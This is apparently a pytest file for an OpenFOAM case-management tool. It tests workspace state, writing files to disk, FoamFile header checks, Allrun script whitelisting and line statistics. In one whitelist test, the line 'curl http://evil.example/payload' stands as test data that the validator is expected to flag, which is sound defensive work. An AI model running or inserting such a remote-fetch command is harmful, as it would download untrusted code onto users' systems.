"""Workspace state, disk materialization, script validation, statistics."""

import os
import stat

import pytest

from foamagent.errors import DuplicateFile, IoFailure
from foamagent.workspace import (
    CaseWorkspace,
    FoamFile,
    collect_code_stats,
    count_lines,
    default_command_whitelist,
    default_run_whitelist,
    load_whitelist,
    materialize_case,
    read_case_tree,
    run_root,
    script_boilerplate_lines,
    script_command_lines,
    validate_allrun_script,
    validate_foamfile_header,
)

CONTROL_DICT = (
    "FoamFile\n{\n    version     2.0;\n    format      ascii;\n"
    "    class       dictionary;\n    object      controlDict;\n}\n"
    "application     icoFoam;\nendTime         10;\n"
)

ALLRUN = (
    '#!/bin/sh\ncd "${0%/*}" || exit 1\n'
    ". ${WM_PROJECT_DIR:?}/bin/tools/RunFunctions\n\n"
    "runApplication blockMesh\nrunApplication icoFoam\n"
)


# --- FoamFile and workspace state --------------------------------------------


def test_foamfile_validates_its_slot():
    good = FoamFile("controlDict", "system", CONTROL_DICT)
    assert good.rel_path == "system/controlDict"
    with pytest.raises(IoFailure):
        FoamFile("bad/name", "system", "x")
    with pytest.raises(IoFailure):
        FoamFile("U", "/absolute", "x")
    with pytest.raises(IoFailure):
        FoamFile("U", "../escape", "x")
    with pytest.raises(IoFailure):
        FoamFile("U", "0", "")


def test_find_and_upsert_slots(tmp_path):
    ws = CaseWorkspace(root=tmp_path)
    ws.upsert(FoamFile("U", "0", "first"))
    ws.upsert(FoamFile("U", "system", "other folder, other slot"))
    assert len(ws.files) == 2
    assert ws.find("U", "0").content == "first"
    # name-only find returns the first match in insertion order
    assert ws.find("U").folder == "0"
    ws.upsert(FoamFile("U", "0", "replaced"))
    assert len(ws.files) == 2
    assert ws.find("U", "0").content == "replaced"


def test_rewrite_falls_back_to_name_only(tmp_path):
    ws = CaseWorkspace(root=tmp_path)
    ws.upsert(FoamFile("fvSolution", "system", "v1"))
    updated = ws.rewrite("fvSolution", "0", "v2")  # stale folder from a review
    assert updated.folder == "system"
    assert ws.find("fvSolution", "system").content == "v2"
    with pytest.raises(IoFailure, match="unknown file"):
        ws.rewrite("nope", "system", "x")


# --- materialization ---------------------------------------------------------


def test_materialize_writes_tree_and_executable_allrun(tmp_path):
    ws = CaseWorkspace(root=tmp_path / "case")
    ws.upsert(FoamFile("controlDict", "system", CONTROL_DICT))
    ws.upsert(FoamFile("U", "0", "volVectorField U;\n"))
    ws.allrun = ALLRUN
    written = materialize_case(ws)
    assert sorted(p.name for p in written) == ["Allrun", "U", "controlDict"]
    assert (tmp_path / "case/system/controlDict").read_text() == CONTROL_DICT
    mode = (tmp_path / "case/Allrun").stat().st_mode
    assert mode & stat.S_IXUSR and mode & stat.S_IXOTH


def test_materialize_is_idempotent_and_applies_rewrites(tmp_path):
    ws = CaseWorkspace(root=tmp_path / "case")
    ws.upsert(FoamFile("U", "0", "v1\n"))
    materialize_case(ws)
    materialize_case(ws)
    assert (tmp_path / "case/0/U").read_text() == "v1\n"
    ws.rewrite("U", "0", "v2\n")
    materialize_case(ws)
    assert (tmp_path / "case/0/U").read_text() == "v2\n"


def test_materialize_rejects_duplicate_slots(tmp_path):
    ws = CaseWorkspace(root=tmp_path / "case")
    ws.files = [FoamFile("U", "0", "a"), FoamFile("U", "0", "b")]
    with pytest.raises(DuplicateFile):
        materialize_case(ws)


def test_read_case_tree_round_trips(tmp_path):
    ws = CaseWorkspace(root=tmp_path / "case")
    ws.upsert(FoamFile("controlDict", "system", CONTROL_DICT))
    ws.upsert(FoamFile("U", "0", "field\n"))
    ws.allrun = ALLRUN
    materialize_case(ws)
    # a solver log at the root must not be mistaken for case content
    (tmp_path / "case/log.icoFoam").write_text("Time = 1\n")

    loaded = read_case_tree(tmp_path / "case")
    assert loaded.allrun == ALLRUN
    assert {(f.file_name, f.folder) for f in loaded.files} == {
        ("controlDict", "system"),
        ("U", "0"),
    }


def test_run_root_layout(tmp_path):
    assert run_root(tmp_path, "cavity", "a1b2") == tmp_path / "cavity-a1b2"


# --- validators --------------------------------------------------------------


def test_foamfile_header_validator():
    assert validate_foamfile_header(CONTROL_DICT) == []
    assert validate_foamfile_header("application icoFoam;") == ["no FoamFile header block"]
    missing_obj = "FoamFile\n{\n    class dictionary;\n}\n"
    assert validate_foamfile_header(missing_obj) == ["FoamFile header lacks an object entry"]
    missing_both = "FoamFile\n{\n    version 2.0;\n}\n"
    assert sorted(validate_foamfile_header(missing_both)) == [
        "FoamFile header lacks a class entry",
        "FoamFile header lacks an object entry",
    ]


def test_script_lines_split_commands_from_boilerplate():
    commands = script_command_lines(ALLRUN)
    assert [c.text for c in commands] == ["runApplication blockMesh", "runApplication icoFoam"]
    assert commands[0].number == 5
    prelude = script_boilerplate_lines(ALLRUN)
    assert prelude == ['cd "${0%/*}" || exit 1', ". ${WM_PROJECT_DIR:?}/bin/tools/RunFunctions"]


def test_get_application_assignment_is_boilerplate():
    script = (
        '#!/bin/sh\ncd "${0%/*}" || exit 1\n'
        ". ${WM_PROJECT_DIR:?}/bin/tools/RunFunctions\n"
        'application=$(getApplication)\n'
        "runApplication blockMesh\nrunApplication $application\n"
    )
    assert validate_allrun_script(
        script, default_command_whitelist(), default_run_whitelist()
    ) == []


def test_validate_allrun_flags_unknown_names():
    commands = default_command_whitelist()
    runlist = default_run_whitelist()
    script = (
        "runApplication blockMesh\n"
        "runApplication dragonSolver\n"
        "curl http://evil.example/payload\n"
        "runParallel -quiet\n"
    )
    violations = validate_allrun_script(script, commands, runlist)
    assert len(violations) == 3
    assert any("dragonSolver" in v for v in violations)
    assert any("'curl'" in v for v in violations)
    assert any("names no application" in v for v in violations)


def test_validate_allrun_rejects_empty_scripts():
    assert validate_allrun_script("#!/bin/sh\n# nothing\n", frozenset(), frozenset()) == [
        "script contains no executable commands"
    ]


def test_run_lines_skip_option_flag_tokens():
    runlist = default_run_whitelist()
    script = "runApplication blockMesh -overwrite\nrunParallel -quiet icoFoam\n"
    assert validate_allrun_script(script, frozenset(), runlist) == []


def test_load_whitelist_from_file(tmp_path):
    listing = tmp_path / "allowed.txt"
    listing.write_text("# custom\nfooMesh\n\nbarFoam\n", encoding="utf-8")
    assert load_whitelist(listing, "commands.txt") == frozenset({"fooMesh", "barFoam"})


def test_default_whitelists_cover_fixture_solvers():
    runlist = default_run_whitelist()
    for app in ("blockMesh", "icoFoam", "pisoFoam", "dnsFoam", "rhoSimpleFoam",
                "pimpleFoam", "reactingFoam", "buoyantFoam", "boxTurb"):
        assert app in runlist, app


# --- statistics --------------------------------------------------------------


def test_count_lines_ignores_trailing_newline():
    assert count_lines("") == 0
    assert count_lines("one") == 1
    assert count_lines("one\n") == 1
    assert count_lines("one\ntwo") == 2
    assert count_lines("one\ntwo\n") == 2
    assert count_lines("\n") == 1


def test_collect_code_stats_excludes_allrun(tmp_path):
    ws = CaseWorkspace(root=tmp_path)
    ws.upsert(FoamFile("a", "system", "1\n2\n3\n"))
    ws.upsert(FoamFile("b", "0", "1\n"))
    ws.allrun = "many\nlines\nhere\n"
    stats = collect_code_stats(ws)
    assert stats.file_count == 2
    assert stats.total_lines == 4
    assert stats.lines_per_file == pytest.approx(2.0)


def test_collect_code_stats_empty_workspace(tmp_path):
    stats = collect_code_stats(CaseWorkspace(root=tmp_path))
    assert stats == type(stats)(file_count=0, lines_per_file=0.0, total_lines=0)
